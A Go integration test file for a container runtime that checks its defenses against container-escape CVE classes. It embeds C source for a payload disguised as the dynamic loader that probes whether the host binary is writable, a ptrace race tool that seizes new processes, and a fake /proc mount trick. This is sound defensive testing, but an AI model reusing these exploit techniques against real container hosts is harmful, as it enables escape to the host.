package integration

import (
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	runtimeapi "k8s.io/cri-api/pkg/apis/runtime/v1"

	"github.com/peapod-cri/peapod/integration/testenv"
)

// runc's CVE classes applied to peapod's own exec helper (sandbox/enter)
// and to the container init it starts through libcontainer from the same
// sealed binary: CVE-2019-5736 (a container process overwrites the host's
// binary through /proc/self/exe) and CVE-2024-21626 (a working directory
// through /proc/self/fd/N reaches a host directory the process holds).
//
// The attacker is the image. Its /bin/selfexe is "#!/proc/self/exe", so
// the kernel runs the binary of whoever executes it (the exec helper's
// exec process, or runc's init) again, a dynamically linked one with its
// program interpreter resolved in the container:
// /lib64/ld-linux-x86-64.so.2, which the image makes hostPayloadSource
// (the original CVE-2019-5736 exploit replaced a library the same way).
// Its /bin/evil runs that payload directly ("#!/lib64/ld-linux-x86-64.so.2"),
// as the first instructions of the container's process: it reports what
// the process holds (working directory, descriptors).

// hostPayloadSource is that program interpreter: freestanding (it must not
// need the loader it replaces). It reports to stdout, or for PID 1 to
// /tmp/rt7-result as the container's init ("/bin/evil init"): its executable, cwd (readlink and getcwd), every
// descriptor it holds, and whether /proc/self/exe opens for writing; then
// it forks a child that execs the payload anew ("reopen FD", so that no
// process of the container maps peapod's binary any more) and reopens the
// binary through the descriptor it kept, for writing. A write is the
// file's first byte written back over itself: a success shows the binary
// writable without changing it. EXEWRITE lines are the escape.
const hostPayloadSource = `typedef unsigned long u64;
static long sc6(long n, long a, long b, long c, long d, long e, long f) {
	long r;
	register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
	return r;
}
#define sc(n, a, b, c) sc6(n, (long)(a), (long)(b), (long)(c), 0, 0, 0)
enum { SYS_write = 1, SYS_open = 2, SYS_close = 3, SYS_mmap = 9, SYS_pread = 17, SYS_pwrite = 18,
       SYS_nanosleep = 35, SYS_getpid = 39, SYS_fork = 57, SYS_execve = 59, SYS_fcntl = 72,
       SYS_getcwd = 79, SYS_readlink = 89, SYS_setsid = 112, SYS_getdents64 = 217, SYS_exit_group = 231 };
#define RESULT "/tmp/rt7-result"
#define APPEND 02101 /* O_WRONLY|O_CREAT|O_APPEND */
static int slen(const char *s) { int n = 0; while (s[n]) n++; return n; }
static char out[16384]; static int outn; static long outfd = 1;
static void put(const char *s) { int n = slen(s); if (outn + n < (int)sizeof out) for (int i = 0; i < n; i++) out[outn++] = s[i]; }
static void putn(long v) { char b[24]; int i = 23; b[i] = 0; int neg = v < 0; u64 u = neg ? -v : v; do { b[--i] = '0' + u % 10; u /= 10; } while (u); if (neg) b[--i] = '-'; put(b + i); }
static void flush(void) { sc(SYS_write, outfd, out, outn); outn = 0; }
static void num(char *b, long v) { char t[24]; int j = 23; t[j] = 0; do { t[--j] = '0' + v % 10; v /= 10; } while (v); while ((*b++ = t[j++])) {} }
static void fdpath(char *p, long fd) { const char *pre = "/proc/self/fd/"; int i = 0; while (pre[i]) { p[i] = pre[i]; i++; } num(p + i, fd); }
static void link(const char *what, const char *path) { char b[512]; long n = sc(SYS_readlink, path, b, sizeof b - 1); b[n > 0 ? n : 0] = 0; put(what); put(" "); put(n < 0 ? "?" : b); put("\n"); }
static void sleep_ms(long ms) { long ts[2] = {ms / 1000, (ms % 1000) * 1000000}; sc(SYS_nanosleep, ts, 0, 0); }
static void again(const char *mode, const char *arg) {
	char *argv[] = {"/lib64/ld-linux-x86-64.so.2", (char *)mode, (char *)arg, 0};
	char *envp[] = {0};
	sc(SYS_execve, argv[0], argv, envp);
	sc(SYS_exit_group, 3, 0, 0);
}
static void try_write(const char *what, long fd) {
	unsigned char c;
	if (sc6(SYS_pread, fd, (long)&c, 1, 0, 0, 0) != 1) { put("PREADFAIL "); put(what); put("\n"); return; }
	long w = sc6(SYS_pwrite, fd, (long)&c, 1, 0, 0, 0);
	if (w == 1) { put("EXEWRITE pwrite "); put(what); put("\n"); } else { put("nowrite "); put(what); put(" "); putn(w); put("\n"); }
	long m = sc6(SYS_mmap, 0, 4096, 3 /* PROT_READ|PROT_WRITE */, 1 /* MAP_SHARED */, fd, 0);
	if ((unsigned long)m < (unsigned long)-4095) { put("EXEWRITE mmap "); put(what); put("\n"); }
}
static void reopen(long ro) {
	outfd = sc(SYS_open, RESULT, APPEND, 0644);
	char p[64]; fdpath(p, ro);
	long fd = -1;
	for (int i = 0; i < 200 && fd < 0; i++) { // ETXTBSY while a process runs it
		fd = sc(SYS_open, p, 2 /* O_RDWR */, 0);
		if (fd < 0) sleep_ms(50);
	}
	put("reopen "); putn(fd < 0 ? fd : 0); put("\n");
	if (fd >= 0) try_write("reopen", fd);
	put("DONE\n");
	flush();
	sc(SYS_exit_group, 0, 0, 0);
}
void main_c(long *sp) {
	char *mode = sp[0] >= 2 ? (char *)sp[2] : "";
	if (sp[0] == 3 && mode[0] == 'r') {
		long v = 0; for (char *s = (char *)sp[3]; *s >= '0' && *s <= '9'; s++) v = v * 10 + (*s - '0');
		reopen(v);
	}
	if (sp[0] == 3 && mode[0] == 's')
		for (;;) sleep_ms(1000000);
	long pid = sc(SYS_getpid, 0, 0, 0);
	int init = sp[0] == 3 && ((char *)sp[3])[0] == 'i'; // "/bin/evil init"
	if (init)
		outfd = sc(SYS_open, RESULT, APPEND, 0644);
	put("PAYLOAD pid "); putn(pid); put("\n");
	char exe[64]; long en = sc(SYS_readlink, "/proc/self/exe", exe, sizeof exe - 1); exe[en > 0 ? en : 0] = 0;
	int as_peapod = exe[0] == '/' && exe[1] == 'p' && exe[2] == 'e' || exe[1] == 'm' && exe[8] == 'p'; // /peapod..., /memfd:peapod...
	link("EXE", "/proc/self/exe");
	link("CWD", "/proc/self/cwd");
	{ char b[512]; long n = sc(SYS_getcwd, b, sizeof b, 0); put("GETCWD "); if (n > 0) put(b); else putn(n); put("\n"); }
	long d = sc(SYS_open, "/proc/self/fd", 0x10000 /* O_DIRECTORY */, 0);
	char buf[4096];
	long n;
	while (d >= 0 && (n = sc(SYS_getdents64, d, buf, sizeof buf)) > 0)
		for (long off = 0; off < n;) {
			unsigned short reclen = *(unsigned short *)(buf + off + 16);
			char *name = buf + off + 19;
			off += reclen;
			if (name[0] < '0' || name[0] > '9') continue;
			long fd = 0; for (char *p = name; *p; p++) fd = fd * 10 + (*p - '0');
			if (fd == d || (outfd > 2 && fd == outfd)) continue;
			char p[64]; fdpath(p, fd);
			put("FD "); put(name); link("", p);
		}
	sc(SYS_close, d, 0, 0);
	long rw = sc(SYS_open, "/proc/self/exe", 2 /* O_RDWR */, 0);
	put("open-rw "); putn(rw < 0 ? rw : 0); put("\n");
	if (rw >= 0) { try_write("self", rw); sc(SYS_close, rw, 0, 0); }
	long ro = sc(SYS_open, "/proc/self/exe", 0, 0);
	put("SEALS "); putn(ro >= 0 ? sc(SYS_fcntl, ro, 1034 /* F_GET_SEALS */, 0) : ro); put("\n");
	put("PAYLOADEND\n");
	if (!as_peapod) { // a plain process of the container: nothing to reopen
		if (init) { put("DONE\n"); flush(); again("sleep", "forever"); }
		flush();
		sc(SYS_exit_group, 0, 0, 0);
	}
	flush();
	if (sc(SYS_fork, 0, 0, 0) == 0) {
		sc(SYS_setsid, 0, 0, 0);
		for (int i = 0; i < 3; i++) sc(SYS_close, i, 0, 0); // the exec's output ends with it
		char a[24]; num(a, ro);
		again("reopen", a);
	}
	if (init)
		again("sleep", "forever"); // no longer runs peapod's binary
	sc(SYS_exit_group, 0, 0, 0);
}
__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall main_c\n\thlt\n");
`

// execRaceSource is /bin/race of the same image, for a container granted
// CAP_SYS_PTRACE: "race SECONDS" seizes every new process of its PID
// namespace as early as it can (it spins on the next PID), stops it and
// reports what it holds: its executable (open for writing?), descriptors,
// capabilities, cgroups. CAUGHT lines are processes it stopped; EXEWRITE
// and HOSTFD lines are what it took from them.
const execRaceSource = `#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

// race SECONDS: seize every new process of the container's PID namespace
// as early as it can (the next PID, spun on), stop it, and report what it
// holds: its executable (open for writing?), descriptors, capabilities,
// cgroup. CAUGHT lines are processes stopped; EXEWRITE/HOSTFD the escape.
static long last_pid(void) {
	char b[32] = {0};
	int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
	if (fd < 0) return -1;
	read(fd, b, sizeof b - 1);
	close(fd);
	return atol(b);
}
static void field(int pid, const char *file, const char *key) {
	char p[64], line[512];
	snprintf(p, sizeof p, "/proc/%d/%s", pid, file);
	FILE *f = fopen(p, "r");
	if (!f) return;
	while (fgets(line, sizeof line, f))
		if (!key || !strncmp(line, key, strlen(key))) printf("  %s %s", file, line);
	fclose(f);
}
static int kept = -1; // the first caught peapod binary, for a reopen at the end
static const char *leaked = "-"; // "race SECS DIR": a host directory to look for
static void inspect(int pid) {
	char p[64], l[512];
	snprintf(p, sizeof p, "/proc/%d/exe", pid);
	ssize_t n = readlink(p, l, sizeof l - 1);
	l[n > 0 ? n : 0] = 0;
	if (kept < 0 && strstr(l, "memfd:"))
		kept = open(p, O_RDONLY);
	int rw = open(p, O_RDWR);
	printf("CAUGHT %d exe=%s open-rw=%s\n", pid, l, rw >= 0 ? "ok" : strerrorname_np(errno));
	if (rw >= 0) {
		unsigned char c;
		if (pread(rw, &c, 1, 0) == 1 && pwrite(rw, &c, 1, 0) == 1) printf("EXEWRITE %d\n", pid);
		close(rw);
	}
	field(pid, "status", "CapEff");
	field(pid, "cgroup", NULL);
	snprintf(p, sizeof p, "/proc/%d/fd", pid);
	DIR *d = opendir(p);
	struct dirent *e;
	while (d && (e = readdir(d))) {
		if (e->d_name[0] == '.') continue;
		char fp[128];
		snprintf(fp, sizeof fp, "/proc/%d/fd/%s", pid, e->d_name);
		n = readlink(fp, l, sizeof l - 1);
		l[n > 0 ? n : 0] = 0;
		int fd = open(fp, O_RDONLY | O_DIRECTORY);
		struct statfs fs = {0};
		if (fd >= 0) fstatfs(fd, &fs);
		if (!strcmp(l, leaked)) printf("LEAKEDFD %d %s -> %s\n", pid, e->d_name, l);
		printf("  fd %s -> %s%s", e->d_name, l, fd >= 0 ? " (directory" : "");
		if (fd >= 0) {
			printf(", fs 0x%lx)", (long)fs.f_type);
			if (atoi(e->d_name) > 2) {
				// a directory of the host's: how far up does it lead?
				int up = openat(fd, "../../..", O_RDONLY | O_DIRECTORY);
				printf(" HOSTFD up=%s", up >= 0 ? "ok" : strerrorname_np(errno));
				if (up >= 0) close(up);
			}
			if (fs.f_type == 0x9fa0) {
				// a procfs: whose PID 1, and so whose root, does it show?
				struct stat rs;
				int r1 = openat(fd, "1/root", O_PATH | O_DIRECTORY);
				if (r1 >= 0 && fstat(r1, &rs) == 0)
					printf(" PROCROOT1 %lx:%lu", (unsigned long)rs.st_dev, (unsigned long)rs.st_ino);
				else
					printf(" PROCROOT1 %s", strerrorname_np(errno));
				if (r1 >= 0) close(r1);
			}
			close(fd);
		}
		printf("\n");
	}
	if (d) closedir(d);
}
int main(int argc, char **argv) {
	if (argc > 1 && !strcmp(argv[1], "procfifo")) {
		// "race procfifo" (CAP_SYS_ADMIN): the container's /proc becomes a
		// tmpfs whose self/setgroups is a FIFO nobody writes.
		if (mount("fake", "/proc", "tmpfs", 0, NULL) < 0 || mkdir("/proc/self", 0755) < 0 ||
		    mkfifo("/proc/self/setgroups", 0644) < 0) {
			printf("procfifo: %s\n", strerrorname_np(errno));
			return 1;
		}
		printf("procfifo ok\n");
		return 0;
	}
	int secs = argc > 1 ? atoi(argv[1]) : 10;
	if (argc > 2) leaked = argv[2];
	time_t end = time(NULL) + secs;
	int caught = 0, tries = 0;
	setvbuf(stdout, NULL, _IOLBF, 0);
	while (time(NULL) < end) {
		long p = last_pid() + 1;
		for (int i = 0; i < 2000000 && time(NULL) < end; i++) {
			if (ptrace(PTRACE_SEIZE, p, 0, 0) == 0) {
				tries++;
				ptrace(PTRACE_INTERRUPT, p, 0, 0);
				int st;
				if (waitpid(p, &st, __WALL) == p && WIFSTOPPED(st)) {
					caught++;
					inspect(p);
				}
				ptrace(PTRACE_DETACH, p, 0, 0);
				break;
			}
			if (errno != ESRCH) { printf("seize %ld: %s\n", p, strerrorname_np(errno)); break; }
			if ((i & 4095) == 4095 && last_pid() >= p) break; // missed it
		}
	}
	// Once no process runs it (ETXTBSY until then), the binary kept opens
	// for writing as a file: its seals must refuse the write.
	if (kept >= 0) {
		char p[64];
		snprintf(p, sizeof p, "/proc/self/fd/%d", kept);
		int rw = -1;
		for (int i = 0; i < 200 && rw < 0; i++)
			if ((rw = open(p, O_RDWR)) < 0) usleep(50000);
		printf("reopen %s\n", rw >= 0 ? "ok" : strerrorname_np(errno));
		unsigned char c;
		if (rw >= 0 && pread(rw, &c, 1, 0) == 1) {
			if (pwrite(rw, &c, 1, 0) == 1) printf("EXEWRITE reopened\n");
			else printf("nowrite %s\n", strerrorname_np(errno));
		}
	}
	printf("done caught=%d seized=%d\n", caught, tries);
	return 0;
}
`

// hostPayloadImage is an image of nothing but /bin/evil, the payload as
// the program interpreter, /bin/race and the directories the tests use.
func hostPayloadImage(t *testing.T, regAddr string) string {
	t.Helper()
	root := filepath.Join(t.TempDir(), "rootfs")
	for _, dir := range []string{"bin", "lib64", "tmp", "w", "proc", "dev", "sys", "etc"} {
		if err := os.MkdirAll(filepath.Join(root, dir), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chmod(filepath.Join(root, "tmp"), 0o1777); err != nil {
		t.Fatal(err)
	}
	// /bin/evil runs the payload as a plain process of the container (its
	// own interpreter line); /bin/selfexe runs the binary of whoever
	// executes it again, whose program interpreter, were it dynamically
	// linked, would be the payload.
	for name, line := range map[string]string{"evil": "#!/lib64/ld-linux-x86-64.so.2\n", "selfexe": "#!/proc/self/exe\n"} {
		if err := os.WriteFile(filepath.Join(root, "bin", name), []byte(line), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	src := filepath.Join(t.TempDir(), "payload.c")
	if err := os.WriteFile(src, []byte(hostPayloadSource), 0o644); err != nil {
		t.Fatal(err)
	}
	build := exec.Command("gcc", "-O1", "-static-pie", "-nostdlib", "-fPIE", "-ffreestanding", "-fno-stack-protector", "-fno-builtin",
		"-o", filepath.Join(root, "lib64", "ld-linux-x86-64.so.2"), src)
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build the payload (gcc): %v: %s", err, out)
	}
	src = filepath.Join(t.TempDir(), "race.c")
	if err := os.WriteFile(src, []byte(execRaceSource), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("gcc", "-O2", "-static", "-o", filepath.Join(root, "bin", "race"), src).CombinedOutput(); err != nil {
		t.Fatalf("build the race (gcc -static, libc6-dev): %v: %s", err, out)
	}
	testenv.PushImage(t, regAddr, "e2e-test-images/hostpayload:it", root, testenv.ImageConfig{Cmd: []string{"/bin/evil", "init"}})
	return "registry.k8s.io/e2e-test-images/hostpayload:it"
}

// hostPayloadDaemon starts a daemon with the image pulled. The daemon is
// started holding a descriptor of a host directory without close-on-exec
// (returned), as a daemon whose parent leaked one would (here the test's
// shell leaks its own too): nothing the daemon starts in a container may
// keep it.
func hostPayloadDaemon(t *testing.T) (*daemon, string, string) {
	t.Helper()
	regAddr := testenv.StartRegistry(t)
	image := hostPayloadImage(t, regAddr)
	d := newDaemon(t, regAddr)
	leaked := startHoldingInheritedDir(t, d)
	if _, err := d.Img.PullImage(ctx(t), &runtimeapi.PullImageRequest{Image: &runtimeapi.ImageSpec{Image: image}}); err != nil {
		t.Fatal(err)
	}
	return d, image, leaked
}

// payloadResult waits for the container's /tmp/rt7-result (read from the
// host through its init's root) to have done "DONE" lines, and returns it.
func payloadResult(t *testing.T, d *daemon, ctr string, done int) string {
	t.Helper()
	path := filepath.Join("/proc", strconv.Itoa(containerPID(t, d, ctr)), "root", "tmp", "rt7-result")
	var out string
	waitFor(t, 30*time.Second, "the payload's report", func() bool {
		data, _ := os.ReadFile(path)
		out = string(data)
		return strings.Count(out, "DONE\n") >= done
	})
	return out
}

// peapodExe tells whether a payload ran as peapod's sealed binary: the
// embedded runner's memfd, or without embedding the read-only overlay's
// /peapod-runner or /peapod.
func peapodExe(report string) bool {
	return strings.Contains(report, "EXE /memfd:peapod") || strings.Contains(report, "EXE /peapod")
}

// checkPayload fails on every sign of an escape in a payload's report:
// peapod's binary writable, a descriptor beyond stdio, a working directory
// outside the container's root.
func checkPayload(t *testing.T, what, report string) {
	t.Helper()
	for _, line := range strings.Split(report, "\n") {
		f := strings.Fields(line)
		switch {
		case strings.HasPrefix(line, "EXEWRITE"):
			t.Errorf("%s: peapod's binary is writable: %s", what, line)
		case len(f) > 0 && f[0] == "FD" && (len(f) < 2 || f[1] != "0" && f[1] != "1" && f[1] != "2"):
			t.Errorf("%s: a descriptor beyond stdio: %s", what, line)
		case len(f) > 0 && f[0] == "GETCWD" && (len(f) < 2 || !strings.HasPrefix(f[1], "/")):
			t.Errorf("%s: working directory outside the container's root: %s", what, line)
		}
	}
}

// TestEscapeExecHostBinary is CVE-2019-5736 against the exec helper and
// the container init: the image's /bin/selfexe is "#!/proc/self/exe", so
// whoever executes it (runc's init, the exec helper's exec process) runs
// its own binary again, in the container. A dynamically linked binary
// would load its program interpreter from the container's root: the
// image's payload, running its first instruction with /proc/self/exe
// peapod's binary (the original exploit replaced a library the same way;
// session 12's test ran the payload so against the then dynamic runner,
// whose sealed memfd refused every write). The runner is static
// (cmd/peapod-runner/build.sh) and loads nothing from the container:
// there it only prints its usage and exits, and no code of the image runs
// as peapod's binary. The seals are still checked from the host
// (TestEmbeddedHelpers) and from a process seized before its execve
// (TestEscapeExecPtraceRace).
func TestEscapeExecHostBinary(t *testing.T) {
	d, image, _ := hostPayloadDaemon(t)
	logDir := t.TempDir()
	podCfg := podConfig("hostbin", logDir)
	pod := runPod(t, d, podCfg).PodSandboxId
	const usage = "peapod-runner is started by peapod's pod keepers"

	// As the init.
	self := startContainer(t, d, pod, podCfg, containerConfig("selfexe", image, "/bin/selfexe", "init"))
	var st *runtimeapi.ContainerStatus
	waitFor(t, 30*time.Second, "the init to exit", func() bool {
		r, err := d.RT.ContainerStatus(ctx(t), &runtimeapi.ContainerStatusRequest{ContainerId: self})
		st = r.GetStatus()
		return err == nil && st.GetState() == runtimeapi.ContainerState_CONTAINER_EXITED
	})
	var log string
	waitFor(t, 20*time.Second, "the init's output in its log", func() bool {
		data, _ := os.ReadFile(filepath.Join(logDir, "selfexe.log"))
		log = string(data)
		return strings.Contains(log, usage)
	})
	t.Logf("init exited %d, its log:\n%s", st.ExitCode, log)
	if st.ExitCode != 2 || strings.Contains(log, "PAYLOAD") {
		t.Errorf("the init running /bin/selfexe exited %d with %q: want peapod's binary's usage (2), no payload", st.ExitCode, log)
	}

	// As an exec's process.
	ctr := startContainer(t, d, pod, podCfg, containerConfig("evil", image)) // the image's command: /bin/evil init
	payloadResult(t, d, ctr, 1)
	for i := 0; i < 3; i++ {
		r, err := d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/selfexe"}, Timeout: 60})
		if err != nil {
			t.Fatal(err)
		}
		out := string(r.Stdout) + string(r.Stderr)
		t.Logf("exec %d (exit %d): %s", i, r.ExitCode, out)
		if r.ExitCode != 2 || !strings.Contains(out, usage) || strings.Contains(out, "PAYLOAD") {
			t.Fatalf("the exec of /bin/selfexe exited %d with %q: want peapod's binary's usage (2), no payload", r.ExitCode, out)
		}
	}
	// Still the same binary: a new container and an exec run.
	c2 := startContainer(t, d, pod, podCfg, containerConfig("after", image))
	payloadResult(t, d, c2, 1)
	if out := execOut(t, d, c2, "/bin/evil"); !strings.Contains(out, "PAYLOADEND") {
		t.Errorf("an exec after them printed %q", out)
	}
}

// TestEscapeExecWorkdirFD is CVE-2024-21626 against the exec helper and
// the container init: a working directory /proc/self/fd/N (N 3-30) or
// /proc/self/cwd/.., given directly, and /w swapped by the container for
// a symlink to them after the start (the helper chdirs to the spec's cwd
// by name, in the container). Every process that runs must have its
// working directory and descriptors inside the container.
func TestEscapeExecWorkdirFD(t *testing.T) {
	d, image, _ := hostPayloadDaemon(t)
	podCfg := podConfig("workdirfd", t.TempDir())
	pod := runPod(t, d, podCfg).PodSandboxId
	var dirs []string
	for n := 3; n <= 30; n++ {
		dirs = append(dirs, "/proc/self/fd/"+strconv.Itoa(n))
	}
	dirs = append(dirs, "/proc/self/cwd/..", "/proc/self/cwd/../..", "/proc/1/cwd/..")

	// The init, given each directory.
	started := 0
	for i, dir := range dirs {
		cfg := containerConfig("wd"+strconv.Itoa(i), image)
		cfg.WorkingDir = dir
		cr, err := d.RT.CreateContainer(ctx(t), &runtimeapi.CreateContainerRequest{PodSandboxId: pod, Config: cfg, SandboxConfig: podCfg})
		if err != nil {
			t.Logf("working dir %s: create refused: %v", dir, err)
			continue
		}
		if _, err := d.RT.StartContainer(ctx(t), &runtimeapi.StartContainerRequest{ContainerId: cr.ContainerId}); err != nil {
			t.Logf("working dir %s: start refused: %v", dir, firstLine(err.Error()))
		} else {
			started++
			checkPayload(t, "init with working dir "+dir, payloadResult(t, d, cr.ContainerId, 1))
		}
		d.RT.StopContainer(ctx(t), &runtimeapi.StopContainerRequest{ContainerId: cr.ContainerId, Timeout: 0})
		if _, err := d.RT.RemoveContainer(ctx(t), &runtimeapi.RemoveContainerRequest{ContainerId: cr.ContainerId}); err != nil {
			t.Errorf("remove: %v", err)
		}
	}
	t.Logf("%d of %d inits started", started, len(dirs))

	// Execs whose working directory /w the container turned into a
	// symlink (here the host does it for the container, through its root).
	cfg := containerConfig("swap", image)
	cfg.WorkingDir = "/w"
	ctr := startContainer(t, d, pod, podCfg, cfg)
	payloadResult(t, d, ctr, 1)
	w := filepath.Join("/proc", strconv.Itoa(containerPID(t, d, ctr)), "root", "w")
	ran := 0
	for _, dir := range dirs {
		if err := os.RemoveAll(w); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(dir, w); err != nil {
			t.Fatal(err)
		}
		r, err := d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/evil"}, Timeout: 60})
		if err != nil {
			t.Logf("exec with /w -> %s: %v", dir, err)
			continue
		}
		out := string(r.Stdout) + string(r.Stderr)
		if !strings.Contains(out, "PAYLOADEND") {
			t.Logf("exec with /w -> %s: exit %d: %s", dir, r.ExitCode, firstLine(out))
			continue
		}
		ran++
		t.Logf("exec with /w -> %s ran:\n%s", dir, out)
		checkPayload(t, "exec with /w -> "+dir, out)
	}
	t.Logf("%d of %d execs ran", ran, len(dirs))
	// The same directory, a plain one again: execs run.
	os.Remove(w)
	if err := os.Mkdir(w, 0o755); err != nil {
		t.Fatal(err)
	}
	r, err := d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/evil"}, Timeout: 60})
	if err != nil || !strings.Contains(string(r.Stdout), "GETCWD /w\n") {
		t.Errorf("exec in a plain /w: %v %q", err, r.GetStdout())
	}
}

// TestEscapeExecPtraceRace is CVE-2016-9962 against the exec helper: a
// container granted CAP_SYS_PTRACE seizes each exec's process as soon as
// its PID exists (before it drops anything), while execs run in a loop.
// The helper itself is in the host's PID namespace, out of reach; its exec
// process is the container's from its birth. Such a container can take
// that process over before it drops its capabilities (the residual
// docs/security.md states, as for runc's setns init); what must hold is
// that peapod's binary stays unwritable however early it is caught, and
// that no process holds a descriptor the daemon inherited. Containers of
// the pod are started meanwhile: their runc init (from the keeper's
// runner) is caught the same way.
func TestEscapeExecPtraceRace(t *testing.T) {
	d, image, leaked := hostPayloadDaemon(t)
	podCfg := podConfig("ptrace", t.TempDir())
	podCfg.Linux.SecurityContext = &runtimeapi.LinuxSandboxSecurityContext{NamespaceOptions: &runtimeapi.NamespaceOption{Pid: runtimeapi.NamespaceMode_POD}}
	pod := runPod(t, d, podCfg).PodSandboxId
	cfg := capsContainer("race", image, podCfg, "SYS_PTRACE")
	cfg.Command = nil // the image's: the payload, which stays
	ctr := startContainer(t, d, pod, podCfg, cfg)

	stop := make(chan struct{})
	execs := make(chan int, 1)
	go func() {
		n := 0
		defer func() { execs <- n }()
		for {
			select {
			case <-stop:
				return
			default:
			}
			// A command that exits at once; the race is over before it.
			d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/race", "0"}, Timeout: 60})
			n++
		}
	}()
	// And containers of the pod starting meanwhile: runc's init, started
	// by the keeper's runner, joins the pod's PID namespace too.
	starts := make(chan error, 1)
	go func() {
		for i := 0; i < 3; i++ {
			c := containerConfig("start"+strconv.Itoa(i), image)
			c.Linux = &runtimeapi.LinuxContainerConfig{SecurityContext: &runtimeapi.LinuxContainerSecurityContext{NamespaceOptions: podCfg.Linux.SecurityContext.NamespaceOptions}}
			cr, err := d.RT.CreateContainer(ctx(t), &runtimeapi.CreateContainerRequest{PodSandboxId: pod, Config: c, SandboxConfig: podCfg})
			if err == nil {
				_, err = d.RT.StartContainer(ctx(t), &runtimeapi.StartContainerRequest{ContainerId: cr.ContainerId})
			}
			if err != nil {
				starts <- err
				return
			}
		}
		starts <- nil
	}()
	r, err := d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/race", "10", leaked}, Timeout: 50})
	close(stop)
	n := <-execs
	if err := <-starts; err != nil {
		t.Errorf("a container start during the race: %v", err)
	}
	if err != nil {
		t.Fatal(err)
	}
	out := string(r.Stdout) + string(r.Stderr)
	t.Logf("%d execs raced:\n%s", n, out)
	if !strings.Contains(out, "done caught=") {
		t.Fatalf("the race did not finish")
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "EXEWRITE") {
			t.Errorf("peapod's binary writable through a caught exec process: %s", line)
		}
		if strings.HasPrefix(line, "LEAKEDFD") {
			t.Errorf("an exec process holds the host directory the daemon inherited: %s", line)
		}
	}
	// The execs still work.
	if r, err := d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/race", "0"}, Timeout: 60}); err != nil || r.ExitCode != 0 {
		t.Errorf("exec after the race: %v %v", err, r)
	}
}

// TestEscapeExecProcRedirect is CVE-2025-52881's class against the exec
// helper: what the exec process reads or writes below the container's
// /proc, a container granted CAP_SYS_ADMIN can replace with a mount of its
// own. Here /proc becomes a tmpfs whose self/setgroups is a FIFO: an exec
// must neither wait on it nor take its word.
func TestEscapeExecProcRedirect(t *testing.T) {
	d, image, _ := hostPayloadDaemon(t)
	podCfg := podConfig("procredirect", t.TempDir())
	podCfg.Linux.SecurityContext = &runtimeapi.LinuxSandboxSecurityContext{NamespaceOptions: &runtimeapi.NamespaceOption{Pid: runtimeapi.NamespaceMode_CONTAINER}}
	pod := runPod(t, d, podCfg).PodSandboxId
	cfg := capsContainer("admin", image, podCfg, "SYS_ADMIN")
	cfg.Command = nil
	cfg.Linux.SecurityContext.SupplementalGroups = []int64{4242}
	ctr := startContainer(t, d, pod, podCfg, cfg)
	if r, err := d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/race", "procfifo"}, Timeout: 30}); err != nil || r.ExitCode != 0 {
		t.Fatalf("mount the fake /proc: %v %s %s", err, r.GetStdout(), r.GetStderr())
	}
	start := time.Now()
	r, err := d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/race", "0"}, Timeout: 30})
	took := time.Since(start)
	if err != nil || r.ExitCode != 0 || !strings.Contains(string(r.Stdout), "done caught=0") {
		t.Fatalf("an exec after /proc was replaced (%s): %v %v %q %q", took, err, r.GetExitCode(), r.GetStdout(), r.GetStderr())
	}
	t.Logf("exec in %s", took)
}

func firstLine(s string) string {
	s, _, _ = strings.Cut(strings.TrimSpace(s), "\n")
	return s
}
